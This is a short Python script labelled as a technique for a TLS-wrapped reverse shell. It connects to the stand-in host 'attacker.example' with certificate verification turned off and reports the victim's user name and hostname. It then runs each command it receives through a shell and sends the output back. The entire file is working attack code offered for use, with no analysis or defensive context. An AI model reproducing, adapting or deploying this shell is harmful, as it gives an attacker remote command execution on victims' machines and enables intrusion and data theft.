# technique: TLS-wrapped reverse shell that disables certificate checks and relays command output back over the encrypted channel
import socket
import ssl
import subprocess
import os

C2 = ("attacker.example", 8443)


def connect():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    raw = socket.create_connection(C2, timeout=30)
    return ctx.wrap_socket(raw, server_hostname=C2[0])


def main():
    conn = connect()
    conn.sendall(("[+] %s@%s\n" % (os.getenv("USER", "?"), socket.gethostname())).encode())
    while True:
        conn.sendall(b"$ ")
        data = conn.recv(4096)
        if not data:
            break
        cmd = data.decode(errors="ignore").strip()
        if cmd in ("exit", "quit"):
            break
        if cmd.startswith("cd "):
            try:
                os.chdir(cmd[3:].strip())
                out = b""
            except OSError as e:
                out = str(e).encode() + b"\n"
        else:
            p = subprocess.run(cmd, shell=True, capture_output=True)
            out = p.stdout + p.stderr
        conn.sendall(out or b"\n")
    conn.close()


if __name__ == "__main__":
    main()
